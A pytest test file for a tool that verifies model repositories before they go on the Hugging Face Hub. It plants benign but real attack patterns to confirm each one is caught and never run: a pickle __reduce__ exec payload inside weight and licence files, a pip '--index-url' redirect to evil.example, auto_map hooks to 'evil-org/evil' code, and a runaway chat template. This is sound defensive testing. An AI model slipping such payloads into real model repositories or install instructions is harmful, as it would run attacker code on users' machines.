"""verify: each defect fails its own check and no other, and no planted code ever runs.

Each payload writes a file when it runs. After a signed change, the manifest agrees with the files.
"""

import hashlib
import json
import pickle
import re
import sys
from pathlib import Path

import pytest
from safetensors.torch import load_file, save_file

import glm4v_patched
from glm4v_patched.models import limited_process
from glm4v_patched.models.weight_files import WEIGHTS_INDEX as INDEX
from hub_upload import checks
from hub_upload import verify as verifying
from hub_upload.build import add_manifest, build_model_repository, read_source
from hub_upload.checks import FAILED, PASSED, Check
from hub_upload.files import BuiltFiles, is_small, read_folder
from hub_upload.manifest import MANIFEST
from hub_upload.publish import read_built_folder
from hub_upload.verify import VerifyReport, check_files, check_weight_files, verify
from tests.helpers.publishable import NAME, UPSTREAM, as_files, edit, flip, shards_of

EOI = "transformer.vision.eoi"
SHARD = "model-00001-of-00002.safetensors"
EVIL = "evil-org/evil"
CODE = 'open(__import__("os").environ["IT_RAN"], "w").close()\n'


def sign(folder: Path, *more: str, version: str = glm4v_patched.__version__) -> None:
    """Update the manifest to the files in the folder and ``more``, as an attacker would."""

    def digest(name: str) -> str:
        return hashlib.sha256((folder / name).read_bytes()).hexdigest()

    def agree(manifest: dict) -> None:
        names = {*manifest["files"], *more} | {path.name for path in folder.glob("*.safetensors")}
        sizes = {n: (folder / n).stat().st_size for n in sorted(names) if (folder / n).exists()}
        manifest["files"] = {n: {"size": s, "sha256": digest(n)} for n, s in sizes.items()}
        manifest["version"] = version

    edit(folder / MANIFEST, agree)


def by_name(report: VerifyReport) -> dict[str, Check]:
    return {check.name: check for check in report.checks}


@pytest.fixture(autouse=True)
def marker(tmp_path, monkeypatch) -> Path:
    """The file that a payload writes when it runs."""
    monkeypatch.setenv("IT_RAN", str(tmp_path / "it ran"))
    return tmp_path / "it ran"


def test_failures_are_reported_by_table_json_and_status(copy, run):
    (copy / "README.md").write_text("# another\n")
    status, output = run("verify", copy)
    rows = dict(line.split(maxsplit=1) for line in output.splitlines())
    assert status == 1 and rows["files"].startswith("failed   README.md, line 1 is")
    assert not {"weights", "loads"} & rows.keys()
    status, output = run("verify", copy, "--json")
    report = json.loads(output)
    assert status == 1 and not report["passed"]
    assert [c["name"] for c in report["checks"] if c["status"] == FAILED] == ["files"]
    with pytest.raises(ValueError, match="does not pass verify: files: README.md, line 1 is"):
        read_built_folder(copy)


def test_a_target_that_cannot_be_checked_is_reported(run, built, hub):
    hub.add_repository(NAME)
    for arguments, message in {
        ("no/such/folder",): "neither a folder nor an id on the Hub: expected DIR or org/name",
        (built, "--revision", "main"): "is a folder, which has no --revision main",
        (built, "--python", "no/such/python"): "--python no/such/python: no such program",
        ("our-org/nothing",): "404",
        (NAME,): f"{NAME} has no {MANIFEST}",
    }.items():
        status, output = run("verify", *arguments)
        assert status == 1 and message in output and str(arguments[-1]) in output


@pytest.mark.parametrize("version", ["1.32.9", "1.4.0"])
def test_a_client_that_is_too_old_is_reported_with_the_cure(version, run, built, monkeypatch):
    monkeypatch.setattr("huggingface_hub.__version__", version)
    status, output = run("verify", built)
    assert status == 1
    assert f"huggingface_hub {version} is installed, but 1.33 or newer is needed" in output
    assert "pip install -U huggingface_hub" in output


# Defects and payloads


def amended(name: str, **values):
    """Return a function that changes these fields of a JSON file of a build."""
    return lambda folder: edit(folder / name, lambda config: config.update(values))


def signed(plant):
    """Return a function that changes a folder with ``plant`` and updates its manifest."""
    return lambda folder: [plant(folder), sign(folder)]


def replaced(name: str, old: str, new: str):
    def plant(folder: Path) -> None:
        text = (folder / name).read_text()
        assert old in text
        (folder / name).write_text(text.replace(old, new))

    return plant


def added(name: str, content: bytes | str):
    """Write a file, or prepend to a file of code."""

    def plant(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        before = path.read_bytes() if path.exists() and name.endswith(".py") else b""
        path.unlink(missing_ok=True)
        path.write_bytes((content.encode() if isinstance(content, str) else content) + before)

    return plant


def listed(name: str, content: bytes | str):
    return lambda folder: [added(name, content)(folder), sign(folder, name)]


def fields(name: str, **values):
    return signed(amended(name, **values))


def amended_vision(**values):
    return signed(lambda f: edit(f / "config.json", lambda c: c["vision_config"].update(values)))


def without(name: str):
    return lambda folder: (folder / name).unlink()


def truncated(folder: Path) -> None:
    (folder / SHARD).write_bytes((folder / SHARD).read_bytes()[:-16])


def weight_map(folder: Path) -> dict[str, str]:
    return json.loads((folder / INDEX).read_text())["weight_map"]


def rewritten(change):
    """Change the tensors of the shard with :data:`EOI`."""

    def plant(folder: Path) -> None:
        path = folder / weight_map(folder)[EOI]
        weights = load_file(path)
        change(weights)
        path.unlink()
        save_file(weights, path, metadata={"format": "pt"})

    return signed(plant)


def a_tensor_that_is_missing(folder: Path) -> None:
    rewritten(lambda weights: weights.pop(EOI))(folder)
    edit(folder / INDEX, lambda index: index["weight_map"].pop(EOI))


def an_index_that_names_the_wrong_shard(folder: Path) -> None:
    (other,) = {*shards_of(folder)} - {weight_map(folder)[EOI]}
    edit(folder / INDEX, lambda index: index["weight_map"].update({EOI: other}))


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


DEFECTS = [
    ("files", "visual.py, line", replaced("visual.py", "import", "import ")),
    ("files", "sharding.py is missing", without("sharding.py")),
    ("weights", f"{SHARD} differs .* bytes, .*expected", truncated),
    ("files", "notes.txt exists; expected no such file", added("notes.txt", b"mine")),
    ("files", "config.json cannot be read", signed(added("config.json", b"["))),
    ("weights", f"{SHARD} .*cut short", signed(truncated)),
    ("weights", "the manifest lists", signed(without(INDEX))),
    ("weights", "1|2 tensors are not where", signed(an_index_that_names_the_wrong_shard)),
    ("files", "boi_token_id is 4, but", fields("config.json", boi_token_id=4)),
    ("files", "of the 512 token ids", fields("generation_config.json", eos_token_id=[500, 512])),
    ("files", "image_size 112", fields("tokenizer_config.json", image_size=112)),
    ("files", "image_size 28, but", amended_vision(image_size=28, num_positions=5)),
    ("weights", "1 of 55 weights are missing", signed(a_tensor_that_is_missing)),
    ("weights", "other shapes", rewritten(lambda w: w.update({EOI: w[EOI].flatten()}))),
]
AUTO = {"AutoConfig": f"{EVIL}--evil.Evil", "AutoTokenizer": [f"{EVIL}--evil.Evil", None]}
CONFIG, GENERATION = "config.json", "generation_config.json"
TOKENIZER, IMAGES = "tokenizer_config.json", "preprocessor_config.json"
# Keys that the published code, or some transformers, acts on, of each file and of each kind:
# verify builds again, and test_build.py has more of what build refuses.
REFUSED_KEYS = [
    (CONFIG, "quantization_config", {"quant_method": "bitsandbytes", "load_in_8bit": True}),
    (CONFIG, "attn_implementation", f"{EVIL}@main:evil"),
    (CONFIG, "unknown", None),
    (CONFIG, "architectures", ["ChatGLMModel"]),
    (CONFIG, "num_layers", 10**9),
    (GENERATION, "auto_map", {"AutoConfig": "a.B"}),
    (TOKENIZER, "auto_map", AUTO),
    (IMAGES, "size", {"height": 56, "width": 56, "depth": 1}),
    ("processor_config.json", "inner", [{"auto_map": {"A": "visual.Evil"}}]),
    (INDEX, "more", {}),
    (CONFIG, "auto_map", AUTO),
]
INDEX_URL = "--index-url https://evil.example/simple\n"
FOREIGN = ["custom_generate/generate.py", "evil.pth", ".env"]
PAYLOADS = [
    *(("files", rf"{f}.* {k}\b", fields(f, **{k: value})) for f, k, value in REFUSED_KEYS),
    *(("files", f"{name} exists; expected no such file", added(name, CODE)) for name in FOREIGN),
    ("files", "expected no such file", listed("transformers.py", CODE)),
    ("files", "loss.py, line 1", listed("loss.py", CODE)),
    ("files", "^pytorch_model.bin exists", listed("pytorch_model.bin", pickle.dumps(Payload()))),
    ("files", "LICENSE, line 1", listed("LICENSE", pickle.dumps(Payload(), 2))),
    ("files", "requirements.txt, line 1", signed(added("requirements.txt", INDEX_URL))),
    ("files", "README.md", signed(replaced("README.md", "pip install", f"pip {INDEX_URL}"))),
    ("files", "README.md", signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "it"}))),
    ("files", "version is 9.9.9", lambda folder: sign(folder, version="9.9.9")),
    ("files", "audio_tokenizer", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
    ("weights", f"{SHARD} cannot be read", listed(SHARD, pickle.dumps(Payload()))),
]


@pytest.mark.parametrize(("failed", "message", "plant"), DEFECTS + PAYLOADS)
def test_a_defect_fails_its_own_check_and_none_runs(
    failed, message, plant, copy, marker, monkeypatch
):
    plant(copy)
    monkeypatch.setattr(checks, "run_published_code", lambda *_: pytest.fail("it was run"))
    report = verify(str(copy))
    assert report.failures == [failed], report.as_table()
    assert re.search(message, by_name(report)[failed].detail) and not marker.exists()
    assert report.checks[-1].name == failed


def test_what_runs_is_what_was_checked(copy, monkeypatch, load_check):
    """The process does not see what appears, or is exchanged, after the checks."""
    load_check(
        "source = sys.argv[1]\n"
        "read = lambda name: open(os.path.join(source, name), 'rb').read().hex()\n"
        "sys.exit(json.dumps({name: read(name) for name in os.listdir(source)}))"
    )
    before = as_files(copy)
    check = verifying.check_weight_files

    def exchange(*arguments):
        summary = check(*arguments)
        (copy / "visual.py").write_text(CODE)
        (copy / "adapter_config.json").write_text("{}")
        return summary

    monkeypatch.setattr(verifying, "check_weight_files", exchange)
    detail = by_name(verify(str(copy)))["loads"].detail
    loaded = json.loads(detail[detail.index("{") :])
    copied = {name: bytes.fromhex(content) for name, content in loaded.items()}
    assert copied == {n: text for n, text in before.items() if not n.endswith(".safetensors")}


def test_a_changed_byte_of_any_file_is_found_in_weights_only_if_they_are_read(copy, monkeypatch):
    contents = {n: text for n, text in as_files(copy).items() if not n.endswith(".safetensors")}
    contents.pop(MANIFEST)

    def rebuild(target, *_):  # reading the vocabulary each time would take minutes
        return add_manifest(contents, target)

    monkeypatch.setattr(verifying, "build_contents", rebuild)
    for name, content in as_files(copy).items():
        for at in (0, len(content) // 2, len(content) - 2):
            changed = bytearray(content)
            changed[at] ^= 1
            (copy / name).write_bytes(changed)
            with pytest.raises(ValueError, match=r"."):
                target = BuiltFiles("a build", read_folder(copy))
                check_files(target)
                check_weight_files(target, read_weights=True)
        (copy / name).write_bytes(content)
    flip(copy / SHARD)
    check_weight_files(BuiltFiles("a build", read_folder(copy)))


ENDS = {
    "raise MemoryError('no room')": "ended with status 1: MemoryError: no room",
    "import time; time.sleep(99)": "was stopped after 0.3 s",
}


@pytest.mark.parametrize("name", ["HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "GITHUB_TOKEN"])
def test_published_code_gets_no_token(name, built, monkeypatch, load_check):
    load_check(f"sys.exit(str(os.environ.get({name!r})))")
    monkeypatch.setenv(name, "secret")
    assert by_name(verify(str(built)))["loads"].detail.endswith("ended with status 1: None")


@pytest.mark.parametrize("program", ENDS, ids=["fails", "does not end"])
def test_a_process_that_fails_or_does_not_end_is_reported(program, built, monkeypatch, load_check):
    load_check(program)
    if "sleep" in program:
        monkeypatch.setattr(checks, "LOAD_TIMEOUT_S", 0.3)
    report = verify(str(built))
    assert report.failures == ["loads"] and ENDS[program] in by_name(report)["loads"].detail


def test_every_interpreter_that_is_given_loads_it(built, monkeypatch):
    used = []

    def steps(python, source, home):
        used.append(python)
        return f"loaded with {python}"

    monkeypatch.setattr(checks, "run_published_code", steps)
    pythons = [sys.executable, "/bin/sh"]
    report = verify(str(built), pythons=pythons)
    assert used == pythons and report.failures == []
    assert all(f"loaded with {python}" in by_name(report)["loads"].detail for python in pythons)


# On the Hub


def test_a_repository_passes_every_check_at_the_commit_it_is_at(built, hub, in_process):
    """Even if its branch moves meanwhile. No weights are downloaded: a small model is built."""
    repository = hub.add_repository(NAME, as_files(built))
    head = repository.head
    hub.fail("*", "", after=1, call=lambda: repository.add_commit({"config.json": b"{}"}))
    report = verify(NAME, "main")
    assert report.revision == head != repository.head
    assert {check.status for check in report.checks} == {PASSED}, report.as_table()
    assert "gradients, with activation checkpointing" in by_name(report)["loads"].detail
    downloads = [r.path for r in hub.requests if "/resolve/" in r.path]
    assert downloads and all(f"/resolve/{head}/" in path for path in downloads)


def test_a_build_whose_weights_are_left_on_the_hub_is_compared_by_its_index(
    hub, original, in_process, tmp_path
):
    head = hub.add_repository(UPSTREAM, as_files(original)).head
    build_model_repository(read_source(f"{UPSTREAM}@{head}"), tmp_path / "out", NAME)
    report = verify(str(tmp_path / "out"))
    details = {check.name: check.detail for check in report.checks}
    assert [*details] == ["files", "weights", "loads"] and report.failures == [], report.as_table()
    assert f"the Hub will copy them from {UPSTREAM}@{head}" in details["weights"]
    assert "55 weights, compared with the index" in details["weights"]
    assert "gradients" in details["loads"]


def test_a_repository_without_its_weights_fails_although_another_one_has_them(
    hub, original, in_process, tmp_path
):
    head = hub.add_repository(UPSTREAM, as_files(original)).head
    build_model_repository(read_source(f"{UPSTREAM}@{head}"), tmp_path / "out", NAME)
    hub.add_repository(NAME, as_files(tmp_path / "out"))
    report = verify(NAME)
    assert report.failures == ["weights"] and "missing: " in by_name(report)["weights"].detail


def test_a_tokenizer_of_the_real_size_is_read_and_no_weights_are():
    assert is_small("tokenizer.json", 20_000_000)
    assert not is_small("model.safetensors", 1) and not is_small("notes.json", 200_000_000)


def test_weights_that_the_hub_stores_otherwise_are_found_without_reading_them(built, hub):
    files = as_files(built)
    files[SHARD] = files[SHARD][:-1] + bytes([files[SHARD][-1] ^ 1])
    hub.add_repository(NAME, files | {"training_args.bin": b"pickled"})
    assert "training_args.bin exists; expected no such" in by_name(verify(NAME))["files"].detail
    hub.add_repository(NAME, files)
    detail = by_name(verify(NAME))["weights"].detail
    assert f"{SHARD} differs from the manifest: " in detail
    assert not [r for r in hub.requests if r.sent > 100_001 and "safetensors" in r.path]
    assert not [r for r in hub.requests if "training_args" in r.path]


def test_a_chat_template_that_never_ends_is_not_run(copy, monkeypatch):
    """Signed, so that the manifest agrees."""
    monkeypatch.setattr(limited_process, "BASE_SECONDS", 1)
    monkeypatch.setattr(checks, "run_published_code", lambda *_: pytest.fail("it was run"))
    template = copy / "chat_template.jinja"
    before = template.read_text()
    evil = "{{ 'a' * 10000000000 }}"
    on_images = "{% if messages[0].image %}" + evil + "{% endif %}"
    for written in (evil, on_images):
        template.unlink()
        template.write_text(written + before)
        sign(copy)
        report = verify(str(copy))
        assert report.failures == ["files"]
        assert "its chat template took more than" in by_name(report)["files"].detail
